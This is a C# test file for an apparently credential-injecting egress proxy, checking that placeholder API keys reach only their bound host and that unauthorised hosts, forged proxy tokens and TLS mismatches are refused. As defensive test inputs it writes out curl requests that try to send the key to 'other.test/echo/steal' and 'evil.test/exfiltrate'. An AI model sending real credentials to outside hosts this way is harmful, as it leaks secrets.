using System.Diagnostics;
using System.Net;
using System.Text;
using System.Text.Json;

namespace Centaur.Tests.IronProxy;

/// <summary>HTTPS_PROXY clients (curl here) through CONNECT with TLS interception: the secret reaches only its host.</summary>
[Collection(IronProxyCollection.Name)]
public sealed class ForwardProxyTests(IronProxyFixture fixture)
{
    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    [Theory]
    [InlineData("--http1.1", "1.1")]
    [InlineData("--http2", "2")]
    public async Task CurlReachesTheBoundHostWithTheRealKeyAndGetsTheResponseIntact(string httpVersion, string tunnelProtocol)
    {
        var body = "{\"model\":\"claude\",\"messages\":[" + new string('x', 5000) + "]}";

        var result = await Curl.RunAsync(Ct, httpVersion, "-x", fixture.ProxyArgument(fixture.Token("test:forward:1")), "--cacert", fixture.ProxyCaFile,
            "https://api.anthropic.test/echo/v1/messages?beta=true", "-H", "x-api-key: centaur-placeholder:anthropic",
            "-H", "Cookie: session=1", "-H", "X-Forwarded-For: 6.6.6.6", "-H", "content-type: application/json", "--data-binary", body, "--write-out", "%{stderr}%{http_version}");

        Assert.True(result.ExitCode == 0, result.Stderr);
        using var echo = JsonDocument.Parse(result.Stdout);
        var headers = echo.RootElement.GetProperty("headers");
        Assert.Equal(IronProxyFixture.AnthropicKey, headers.GetProperty("x-api-key").GetString());
        Assert.Equal("api.anthropic.test", echo.RootElement.GetProperty("host").GetString());
        Assert.Equal("/echo/v1/messages", echo.RootElement.GetProperty("path").GetString());
        Assert.Equal("?beta=true", echo.RootElement.GetProperty("query").GetString());
        Assert.Equal(body.Length, echo.RootElement.GetProperty("body_length").GetInt64());
        Assert.Equal(Convert.ToHexStringLower(System.Security.Cryptography.SHA256.HashData(System.Text.Encoding.UTF8.GetBytes(body))),
            echo.RootElement.GetProperty("body_sha256").GetString());
        Assert.False(headers.TryGetProperty("x-forwarded-for", out _));
        Assert.False(headers.TryGetProperty("traceparent", out _));
        Assert.False(headers.TryGetProperty("proxy-authorization", out _));
        Assert.Equal(tunnelProtocol, result.Stderr);
        Assert.Equal("HTTP/2", echo.RootElement.GetProperty("protocol").GetString()); // the proxy speaks h2 upstream
    }

    [Fact]
    public async Task ThePlaceholderTowardsAnotherAllowedHostIsRefusedWithTheReason()
    {
        foreach (var header in new[] { "x-api-key: centaur-placeholder:anthropic", "Authorization: Bearer centaur-placeholder:anthropic" })
        {
            var result = await Curl.RunAsync(Ct, "-x", fixture.ProxyArgument(fixture.Token("test:forward:wrong-host")), "--cacert", fixture.ProxyCaFile,
                "https://other.test/echo/steal", "-H", header, "--write-out", "%{stderr}%{http_code}");

            Assert.Equal("403", result.Stderr);
            using var error = JsonDocument.Parse(result.Stdout);
            Assert.Equal("placeholder_wrong_host", error.RootElement.GetProperty("error").GetProperty("type").GetString());
            Assert.Contains("only valid for api.anthropic.test", error.RootElement.GetProperty("error").GetProperty("message").GetString(), StringComparison.Ordinal);
        }
    }

    [Fact]
    public async Task APlaceholderInTheQueryOrInBasicAuthTowardsAnotherHostIsRefusedToo()
    {
        var basic = await Curl.RunAsync(Ct, "-x", fixture.ProxyArgument(fixture.Token("test:forward:wrong-host")), "--cacert", fixture.ProxyCaFile,
            "https://other.test/echo/steal", "-u", "user:centaur-placeholder:anthropic", "--write-out", "%{stderr}%{http_code}");
        var query = await Curl.RunAsync(Ct, "-x", fixture.ProxyArgument(fixture.Token("test:forward:wrong-host")), "--cacert", fixture.ProxyCaFile,
            "https://other.test/echo/steal?key=centaur-placeholder%3Aanthropic", "--write-out", "%{stderr}%{http_code}");

        Assert.Equal("403", basic.Stderr);
        Assert.Equal("403", query.Stderr);
    }

    [Fact]
    public async Task ABindingThatOptsOutPassesItsPlaceholderUnchangedToOtherHosts()
    {
        var result = await Curl.RunAsync(Ct, "-x", fixture.ProxyArgument(fixture.Token("test:forward:passthrough")), "--cacert", fixture.ProxyCaFile,
            "https://other.test/echo/x", "-H", "x-api-key: centaur-placeholder:passthru");

        Assert.True(result.ExitCode == 0, result.Stderr);
        using var echo = JsonDocument.Parse(result.Stdout);
        Assert.Equal("centaur-placeholder:passthru", echo.RootElement.GetProperty("headers").GetProperty("x-api-key").GetString());
    }

    [Fact]
    public async Task ARealLookingKeyOrNoPlaceholderTowardsABoundHostIsRefused()
    {
        var realKey = await Curl.RunAsync(Ct, "-x", fixture.ProxyArgument(fixture.Token("test:forward:fail-closed")), "--cacert", fixture.ProxyCaFile,
            "https://api.anthropic.test/echo/v1/messages", "-H", "x-api-key: sk-ant-api03-found-in-a-dotfile", "--write-out", "%{stderr}%{http_code}");
        var none = await Curl.RunAsync(Ct, "-x", fixture.ProxyArgument(fixture.Token("test:forward:fail-closed")), "--cacert", fixture.ProxyCaFile,
            "https://api.anthropic.test/echo/v1/messages", "--write-out", "%{stderr}%{http_code}");
        var embedded = await Curl.RunAsync(Ct, "-x", fixture.ProxyArgument(fixture.Token("test:forward:fail-closed")), "--cacert", fixture.ProxyCaFile,
            "https://api.anthropic.test/echo/v1/messages", "-H", "x-api-key: xx-centaur-placeholder:anthropic-yy", "--write-out", "%{stderr}%{http_code}");

        Assert.Equal("403", realKey.Stderr);
        Assert.Contains("credential_not_placeholder", realKey.Stdout, StringComparison.Ordinal);
        Assert.Equal("403", none.Stderr);
        Assert.Contains("missing_placeholder", none.Stdout, StringComparison.Ordinal);
        Assert.Equal("403", embedded.Stderr);
        Assert.DoesNotContain(IronProxyFixture.AnthropicKey, embedded.Stdout, StringComparison.Ordinal);
    }

    [Fact]
    public async Task AHostNotOnTheAllowlistGets403WithABodyNamingItAndHowToAllowIt()
    {
        var inTunnel = await Curl.RunAsync(Ct, "-x", fixture.ProxyArgument(fixture.Token("test:forward:deny")), "--cacert", fixture.ProxyCaFile,
            "https://evil.test/exfiltrate", "--write-out", "%{stderr}%{http_code}");

        Assert.Equal("403", inTunnel.Stderr);
        Assert.Contains("egress to evil.test:443 is not on the allowlist", inTunnel.Stdout, StringComparison.Ordinal);
        Assert.Contains("PUT /egress/hosts/evil.test", inTunnel.Stdout, StringComparison.Ordinal);

        await fixture.ChangePolicyAsync("/egress/settings", new { deny_in_tunnel = false }, Ct);
        try
        {
            var (client, response) = await RawProxyClient.ConnectAsync(fixture.ProxyUrl, "evil.test:443", RawProxyClient.Basic(fixture.Token("test:forward:deny")), Ct);
            client.Dispose();

            Assert.Equal(403, response.Status);
            Assert.Contains("X-Centaur-Proxy-Error: host_not_allowed", response.Head, StringComparison.Ordinal);
            Assert.Contains("egress to evil.test:443 is not on the allowlist", response.Body, StringComparison.Ordinal);
        }
        finally
        {
            await fixture.ChangePolicyAsync("/egress/settings", new { deny_in_tunnel = true }, Ct);
        }
    }

    [Fact]
    public async Task AMissingOrBadProxyAuthorizationGets407()
    {
        var expired = fixture.Token("test:forward:407", lifetime: TimeSpan.FromSeconds(-5));
        var forged = fixture.Token("test:forward:407")[..^4] + "AAAA";
        foreach (var authorization in new[] { null, "Basic " + Convert.ToBase64String(Encoding.UTF8.GetBytes("sandbox:not-a-token")), RawProxyClient.Basic(expired), RawProxyClient.Basic(forged) })
        {
            var (client, response) = await RawProxyClient.ConnectAsync(fixture.ProxyUrl, "api.anthropic.test:443", authorization, Ct);
            client.Dispose();

            Assert.Equal(407, response.Status);
            Assert.Contains("Proxy-Authenticate: Basic", response.Head, StringComparison.Ordinal);
        }

        var plain = await Curl.RunAsync(Ct, "-x", $"http://{fixture.ProxyUrl.Host}:{fixture.ProxyUrl.Port}", "http://plain.test/echo/x", "--write-out", "%{stderr}%{http_code}");
        Assert.Equal("407", plain.Stderr);
    }

    [Fact]
    public async Task AClientThatDoesNotTrustTheProxyCaFailsClosed()
    {
        var marker = Guid.NewGuid().ToString("N");
        var result = await Curl.RunAsync(Ct, "-x", fixture.ProxyArgument(fixture.Token("test:forward:untrusted")),
            $"https://other.test/echo/{marker}");

        Assert.Equal(60, result.ExitCode); // SSL certificate problem
        var rows = await fixture.WaitForAuditAsync("", 1, Ct);
        Assert.DoesNotContain(rows, r => ((string)r["path"]!).Contains(marker, StringComparison.Ordinal));
    }

    [Fact]
    public async Task AHostHeaderNamingAnotherHostThanTheConnectTargetIsRefused()
    {
        var result = await Curl.RunAsync(Ct, "--http1.1", "-x", fixture.ProxyArgument(fixture.Token("test:forward:421")), "--cacert", fixture.ProxyCaFile,
            "https://other.test/echo/x", "-H", "Host: api.anthropic.test", "-H", "x-api-key: centaur-placeholder:anthropic", "--write-out", "%{stderr}%{http_code}");

        Assert.Equal("421", result.Stderr);
        Assert.Contains("misdirected_request", result.Stdout, StringComparison.Ordinal);
    }

    [Fact]
    public async Task ATlsServerNameThatDiffersFromTheConnectTargetAbortsTheHandshake()
    {
        var (client, response) = await RawProxyClient.ConnectAsync(fixture.ProxyUrl, "other.test:443", RawProxyClient.Basic(fixture.Token("test:forward:sni")), Ct);
        using (client)
        {
            Assert.Equal(200, response.Status);
            await Assert.ThrowsAnyAsync<Exception>(() => RawProxyClient.StartTlsAsync(client, "api.anthropic.test", fixture.TrustProxyCa, Ct));
        }
    }

    [Fact]
    public async Task PlainHttpAbsoluteFormRequestsAreForwarded()
    {
        var result = await Curl.RunAsync(Ct, "-x", fixture.ProxyArgument(fixture.Token("test:forward:plain")), "http://plain.test/echo/plain?q=1",
            "-H", "X-Forwarded-Host: sandbox.internal");

        Assert.True(result.ExitCode == 0, result.Stderr);
        using var echo = JsonDocument.Parse(result.Stdout);
        Assert.Equal("/echo/plain", echo.RootElement.GetProperty("path").GetString());
        Assert.Equal("plain.test", echo.RootElement.GetProperty("host").GetString());
        Assert.False(echo.RootElement.GetProperty("headers").TryGetProperty("x-forwarded-host", out _));
        Assert.False(echo.RootElement.GetProperty("headers").TryGetProperty("proxy-authorization", out _));
    }

    [Fact]
    public async Task GitClonesThroughTheProxyWithAPlaceholderTokenInBasicAuth()
    {
        var target = Path.Combine(Path.GetTempPath(), $"centaur-clone-{Guid.NewGuid():N}");
        try
        {
            var ok = await GitCloneAsync("git.test", target);
            var wrongHost = await GitCloneAsync("other.test", target + "-other");

            Assert.True(ok.ExitCode == 0, ok.Output);
            Assert.Equal("hello from the fake git server\n", await File.ReadAllTextAsync(Path.Combine(target, "README.md"), Ct));
            Assert.NotEqual(0, wrongHost.ExitCode);
            Assert.Contains("403", wrongHost.Output, StringComparison.Ordinal);
        }
        finally
        {
            foreach (var dir in new[] { target, target + "-other" })
            {
                if (Directory.Exists(dir))
                {
                    Directory.Delete(dir, recursive: true);
                }
            }
        }
    }

    private async Task<(int ExitCode, string Output)> GitCloneAsync(string host, string target)
    {
        var start = new ProcessStartInfo("git") { RedirectStandardError = true, RedirectStandardOutput = true, UseShellExecute = false };
        foreach (var arg in new[] { "-c", $"http.proxy={fixture.ProxyArgument(fixture.Token("test:forward:git"))}", "-c", $"http.sslCAInfo={fixture.ProxyCaFile}",
                     "clone", $"https://x-access-token:centaur-placeholder%3Agit@{host}/git/repo.git", target })
        {
            start.ArgumentList.Add(arg);
        }

        start.Environment["GIT_SSL_CAINFO"] = fixture.ProxyCaFile;
        start.Environment["GIT_TERMINAL_PROMPT"] = "0";
        foreach (var name in new[] { "http_proxy", "https_proxy", "HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY" })
        {
            start.Environment.Remove(name);
        }

        using var process = Process.Start(start)!;
        var output = process.StandardError.ReadToEndAsync(Ct);
        var stdout = process.StandardOutput.ReadToEndAsync(Ct);
        using var timeout = CancellationTokenSource.CreateLinkedTokenSource(Ct);
        timeout.CancelAfter(TimeSpan.FromSeconds(90));
        await process.WaitForExitAsync(timeout.Token);
        return (process.ExitCode, await output + await stdout);
    }
}
